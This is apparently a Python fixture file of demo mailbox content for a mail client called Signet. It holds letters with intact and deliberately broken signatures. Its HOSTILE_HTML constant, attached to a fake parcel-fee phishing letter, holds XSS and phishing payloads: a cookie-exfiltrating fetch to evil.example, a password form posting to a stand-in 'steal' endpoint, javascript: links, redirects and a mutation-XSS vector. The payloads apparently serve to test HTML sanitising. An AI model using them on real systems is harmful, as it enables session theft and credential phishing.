"""The demo's mail: what alice and bob find on their first day. Words only; `post` makes messages.

Times are hours before the demo was set up, so that the inbox always looks lived in.
"""

from dataclasses import dataclass, field
from typing import Literal

DOMAIN = "nordlys.example"

# How a letter is protected, or broken on purpose so that every kind of verdict can be seen.
Protection = Literal[
    "none",
    "signed",
    "signed-encrypted",
    "altered",
    "expired-since",
    "signer-not-from",
    "self-signed",
]


@dataclass(frozen=True, slots=True)
class Person:
    """Someone who writes. `local` people have a mailbox in the demo."""

    name: str
    address: str


ALICE = Person("Alice Lindqvist", f"alice@{DOMAIN}")
BOB = Person("Bob Haraldsen", f"bob@{DOMAIN}")
JONAS = Person("Jonas Berg", "jonas.berg@werkstrom.example")
PETRA = Person("Petra Schulz", "petra.schulz@werkstrom.example")
LEILA = Person("Leila Moradi", "leila.moradi@fjordnett.example")
KARIM = Person("Karim Haddad", "karim@turbinlab.example")
FINANCE = Person("Finance Desk", "finance@werkstrom.example")
BOARD = Person("Board Office", f"board@{DOMAIN}")
TOMAS = Person("Tomas Eide", "tomas.eide@fjordnett.example")
INES = Person("Ines Ferreira", "ines@mareatec.example")
RAIL = Person("Rail Norway", "tickets@rail.example")
LETTER = Person("Grid Weekly", "letters@gridweekly.example")
OPS = Person("Ops Team", "ops@nightshift.example")
LIBRARY = Person("City Library", "loans@library.example")
SHADY = Person("Parcel Service", "delivery@parcel-notice.example")
MARTA = Person("Marta Nilsen", f"marta@{DOMAIN}")


@dataclass(frozen=True, slots=True)
class Letter:
    """One message. `answers` is the key of the letter it replies to."""

    key: str
    sender: Person
    to: tuple[Person, ...]
    hours: float
    subject: str
    text: str
    answers: str = ""
    cc: tuple[Person, ...] = ()
    protection: Protection = "none"
    html: str = ""
    files: tuple[str, ...] = ()  # names; the ending decides what is made
    is_seen: bool = True
    is_starred: bool = False
    extra: dict[str, str] = field(default_factory=dict)


NEWSLETTER_HTML = """<html><head><style>
body{background:#eef2f5;font-family:Georgia,serif;margin:0}
.card{background:#ffffff;border-radius:8px;max-width:600px;margin:24px auto;padding:28px}
h1{color:#12405e;font-size:26px;margin:0 0 12px} .lead{color:#44525c;line-height:1.55}
.button{background:#12405e;color:#ffffff;padding:10px 18px;border-radius:6px;text-decoration:none}
@media (max-width:480px){.card{padding:16px}}
</style></head><body><table class="card" width="100%" cellpadding="0"><tr><td>
<img src="https://images.gridweekly.example/masthead.png" width="540" height="120" alt="Grid Weekly">
<h1>What the cold week taught us</h1>
<p class="lead">Peak load came two hours earlier than in any year since 2012. Three operators
tell how they kept the frequency inside the band, and what they would do differently.</p>
<p><img src="https://images.gridweekly.example/load-curve.png" width="540" height="260" alt="Load curve"></p>
<p><a class="button" href="https://gridweekly.example/issues/47">Read the issue</a></p>
<p style="font-size:12px;color:#7a858c">You get this because you subscribed.
<a href="https://gridweekly.example/unsubscribe">Unsubscribe</a></p>
<img src="https://track.gridweekly.example/open?id=8f31c2" width="1" height="1" alt="">
</td></tr></table></body></html>"""

HOSTILE_HTML = """<html><head><title>Parcel</title><meta http-equiv="refresh" content="1;url=https://evil.example/">
<base href="https://evil.example/"><style>@import url(https://evil.example/a.css);
.cover{position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff}
body{background:url(https://evil.example/b.png)}</style>
<script>top.location='https://evil.example/'</script></head>
<body onload="alert(1)"><div class="cover" style="position:fixed">
<img src=x onerror="fetch('https://evil.example/'+document.cookie)">
<p>Your parcel waits. Pay the fee to release it:</p>
<p><a href="https://parcel-notice.example/pay">https://www.nordpost.example/pay</a></p>
<p><a href="javascript:alert(document.cookie)">Track it here</a></p>
<form action="https://evil.example/steal"><input name="password" type="password" placeholder="Password">
<button>Sign in</button></form>
<svg><animate onbegin="alert(2)" attributeName="x"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<math><mtext><style><img src=x onerror=alert(3)></style></mtext></math>
</div></body></html>"""

ALICES: tuple[Letter, ...] = (
    Letter(
        "substation-1",
        JONAS,
        (ALICE,),
        30,
        "Substation 14: outage window",
        "Hi Alice,\n\nthe grid desk offers two windows for substation 14: Wednesday night or\n"
        "Thursday 02:00 to 05:30. Thursday suits our crew better. What do you prefer?\n\nJonas",
        protection="signed",
    ),
    Letter(
        "substation-2",
        JONAS,
        (ALICE,),
        1.2,
        "Re: Substation 14: outage window",
        "Crew lead confirms Thursday 02:00 to 05:30. The dispatcher has the switching order,\n"
        "I attach it so that you can check the times.\n\nJonas",
        answers="substation-1-answer",
        protection="signed",
        files=("Switching-order.pdf",),
        is_seen=False,
    ),
    Letter(
        "agreement-1",
        JONAS,
        (ALICE, BOB),
        90,
        "Framework agreement, final redline",
        "I can live with 11.4 if the cap is fixed and not index-linked. The rest reads well.\n\nJonas",
        protection="signed",
    ),
    Letter(
        "agreement-2",
        BOB,
        (ALICE,),
        3.5,
        "Re: Framework agreement, final redline",
        "Hello Alice,\n\nattached is the version both legal teams agreed on. Three things changed\n"
        "since the draft you saw: the price index in clause 7.2 is now quarterly, the liability\n"
        "cap in 11.4 is fixed at EUR 4.5 million, and annex C lists the two new substations.\n\n"
        "If you are content, please sign and send it back before Thursday noon. The\n"
        "counterparty asked us not to forward it outside the circle above.\n\nBest regards,\nBob",
        answers="agreement-1",
        protection="signed-encrypted",
        files=("Framework-agreement-v7.pdf",),
        is_seen=False,
    ),
    Letter(
        "call",
        PETRA,
        (ALICE,),
        4.1,
        "Can we move our call to Wednesday?",
        "Dear Alice,\n\nsomething came up at the plant. Would 14:00 on Wednesday still work for you?\n"
        "The room is booked either way.\n\nKind regards,\nPetra",
        is_seen=False,
    ),
    Letter(
        "invoice",
        FINANCE,
        (ALICE,),
        5,
        "Invoice 20931: new bank details",
        "Please use the account below for this and all future invoices from our side.\n\n"
        "IBAN NO93 8601 1117 947\n\nFinance Desk",
        protection="altered",
        is_seen=False,
    ),
    Letter(
        "turbine",
        KARIM,
        (ALICE, BOB),
        6.4,
        "Turbine 3 vibration report, week 47",
        "Readings are back inside the envelope after the bearing was changed on Monday. The\n"
        "plot is attached; the raw series is on the usual share.\n\nKarim",
        protection="signed",
        files=("Vibration-week-47.png",),
        is_starred=True,
    ),
    Letter(
        "minutes",
        BOARD,
        (ALICE, BOB),
        20,
        "Minutes of 16 November for approval",
        "Comments by Wednesday noon, please. Two items need your answer: the storage tender (4)\n"
        "and the date of the next meeting (7).\n\nBoard Office",
        protection="signed-encrypted",
        files=("Minutes-16-November.pdf",),
        is_seen=False,
    ),
    Letter(
        "offsite-1",
        TOMAS,
        (ALICE, BOB),
        70,
        "Offsite in Bergen, rooms held until Friday",
        "I held twelve rooms at the harbour hotel under our name until Friday. Who comes by train?\n\nTomas",
    ),
    Letter(
        "offsite-2",
        BOB,
        (TOMAS, ALICE),
        66,
        "Re: Offsite in Bergen, rooms held until Friday",
        "Train for me, arriving 12:40.\n\nBob",
        answers="offsite-1",
    ),
    Letter(
        "offsite-3",
        TOMAS,
        (ALICE, BOB),
        28,
        "Re: Offsite in Bergen, rooms held until Friday",
        "Good. Here is the invitation for your calendars.\n\nTomas",
        answers="offsite-2",
        files=("Offsite-Bergen.ics",),
    ),
    Letter(
        "new-address",
        LEILA,
        (ALICE,),
        50,
        "Signed from my new address",
        "Hi Alice,\n\nmy old mailbox closes in December, so this is the one to use from now on. I have\n"
        "signed with the new certificate so that you can save it.\n\nLeila",
        protection="signer-not-from",
    ),
    Letter(
        "ticket",
        RAIL,
        (ALICE,),
        52,
        "Your ticket Oslo S to Bergen, 2 December",
        "Departure 08:25, coach 4, seat 31 by the window. Your ticket is attached.\n\n"
        "Have a good journey.",
        files=("Ticket-8825.pdf",),
    ),
    Letter(
        "interview",
        INES,
        (ALICE,),
        75,
        "Interview panel for the protection engineer role",
        "Three candidates left. I would like you to take the second round together with Karim;\n"
        "each takes forty minutes. Would the morning of the 3rd work?\n\nInes",
    ),
    Letter(
        "ops",
        OPS,
        (ALICE,),
        98,
        "Night report, nothing to add",
        "All feeders in normal state. One false alarm at 03:12, sensor replaced.\n\nOps Team",
        protection="self-signed",
    ),
    Letter(
        "audit",
        PETRA,
        (ALICE,),
        24 * 41,
        "Audit questions, autumn round",
        "Dear Alice,\n\nthe auditors ask for the list of protective relays with firmware older than\n"
        "three years. Could you send yours by the end of the month?\n\nKind regards,\nPetra",
        protection="expired-since",
    ),
    Letter(
        "newsletter",
        LETTER,
        (ALICE,),
        9,
        "Grid Weekly 47: what the cold week taught us",
        "Peak load came two hours earlier than in any year since 2012.\n\n"
        "Read the issue: https://gridweekly.example/issues/47",
        html=NEWSLETTER_HTML,
        is_seen=False,
        extra={
            "List-Id": "Grid Weekly <weekly.gridweekly.example>",
            "List-Unsubscribe": "<https://gridweekly.example/unsubscribe>",
        },
    ),
    Letter(
        "parcel",
        SHADY,
        (ALICE,),
        13,
        "Your parcel is waiting",
        "Your parcel waits. Pay the fee to release it.",
        html=HOSTILE_HTML,
    ),
    Letter(
        "library",
        LIBRARY,
        (ALICE,),
        120,
        "Two loans are due on Friday",
        "Power System Stability (2nd ed.)\nThe Summer Book\n\nYou can renew both once.",
    ),
    Letter(
        "relay-1",
        KARIM,
        (ALICE,),
        150,
        "Relay settings for feeder 7",
        "I propose 480 A and 0.3 s; coordination with feeder 6 is in the sheet.\n\nKarim",
        protection="signed",
        files=("Relay-settings.csv",),
    ),
    Letter(
        "relay-2",
        KARIM,
        (ALICE,),
        140,
        "Re: Relay settings for feeder 7",
        "You are right, 460 A leaves more room. I have changed it.\n\nKarim",
        answers="relay-1",
        protection="signed",
    ),
    Letter(
        "lunch",
        MARTA,
        (ALICE,),
        7.5,
        "Lunch on Thursday?",
        "The place by the canal has its soup week. 11:45?\n\nMarta",
        is_seen=False,
    ),
    Letter(
        "budget-1",
        BOB,
        (ALICE,),
        170,
        "Budget line for the spare transformer",
        "The supplier holds the price until the 15th. Can you carry it in your line?\n\nBob",
        protection="signed-encrypted",
    ),
    Letter(
        "photos",
        TOMAS,
        (ALICE,),
        200,
        "Photos of the yard",
        "Taken this morning before the snow.\n\nTomas",
        files=("Yard-north.png", "Yard-south.png"),
    ),
    Letter(
        "training",
        INES,
        (ALICE, BOB),
        220,
        "Arc flash training, places left",
        "Two places on the 9th, four on the 16th. Tell me by Monday.\n\nInes",
    ),
    Letter(
        "standards",
        JONAS,
        (ALICE,),
        260,
        "Comments on the draft standard",
        "Section 5.3 now allows both methods. I would still keep our remark on 5.4, because the\n"
        "test it asks for cannot be done on an energised bay.\n\nJonas",
        protection="signed",
    ),
    Letter(
        "keys",
        BOARD,
        (ALICE,),
        300,
        "New access cards from January",
        "Please collect yours at the desk between 8 and 16.\n\nBoard Office",
    ),
    Letter(
        "quote",
        FINANCE,
        (ALICE,),
        330,
        "Offer 4471: current transformers",
        "As discussed: twelve pieces, delivery in week 6.\n\nFinance Desk",
        protection="signed",
        files=("Offer-4471.pdf",),
    ),
    Letter(
        "survey",
        LEILA,
        (ALICE,),
        360,
        "Cable survey, north section",
        "We found two joints that are not on the map. Coordinates follow tomorrow.\n\nLeila",
    ),
    Letter(
        "survey-2",
        LEILA,
        (ALICE,),
        340,
        "Re: Cable survey, north section",
        "59.9139 N, 10.7522 E and 59.9151 N, 10.7570 E.\n\nLeila",
        answers="survey",
    ),
    Letter(
        "book",
        MARTA,
        (ALICE,),
        400,
        "The book you asked about",
        "It is on my desk, come by any time.\n\nMarta",
    ),
    Letter(
        "welcome",
        BOB,
        (ALICE,),
        500,
        "Welcome to Signet",
        "Hi Alice,\n\nyour mailbox has moved. Signed mail shows a seal, and mail that was written for\n"
        "you alone shows a lock. If a seal is broken, the line above the message says what to do.\n\n"
        "Write me something, signed and encrypted.\n\nBob",
        protection="signed",
        is_starred=True,
    ),
)

SENT: tuple[Letter, ...] = (
    Letter(
        "substation-1-answer",
        ALICE,
        (JONAS,),
        26,
        "Re: Substation 14: outage window",
        "Thursday is good. Please have the crew lead confirm it.\n\nAlice",
        answers="substation-1",
        protection="signed",
    ),
    Letter(
        "agreement-1-answer",
        ALICE,
        (JONAS, BOB),
        88,
        "Re: Framework agreement, final redline",
        "Agreed, fixed then. Bob, could you fold this into the redline?\n\nAlice",
        answers="agreement-1",
        protection="signed",
    ),
    Letter(
        "relay-answer",
        ALICE,
        (KARIM,),
        145,
        "Re: Relay settings for feeder 7",
        "Is 480 A not too close to the cold-load pick-up?\n\nAlice",
        answers="relay-1",
    ),
    Letter(
        "training-answer",
        ALICE,
        (INES,),
        215,
        "Re: Arc flash training, places left",
        "The 16th for me, please.\n\nAlice",
        answers="training",
    ),
)

BOBS: tuple[Letter, ...] = (
    Letter(
        "bob-welcome",
        ALICE,
        (BOB,),
        480,
        "Re: Welcome to Signet",
        "Thank you! The seal is there, and so am I.\n\nAlice",
        answers="welcome",
        protection="signed",
    ),
    Letter(
        "bob-turbine",
        KARIM,
        (ALICE, BOB),
        6.4,
        "Turbine 3 vibration report, week 47",
        "Readings are back inside the envelope after the bearing was changed on Monday.\n\nKarim",
        protection="signed",
        is_seen=False,
    ),
    Letter(
        "bob-lunch",
        MARTA,
        (BOB,),
        7.4,
        "Lunch on Thursday?",
        "The place by the canal has its soup week. 11:45?\n\nMarta",
        is_seen=False,
    ),
    Letter(
        "bob-secret",
        ALICE,
        (BOB,),
        160,
        "Re: Budget line for the spare transformer",
        "I can carry half of it. Let us talk on Monday before the meeting.\n\nAlice",
        protection="signed-encrypted",
    ),
)
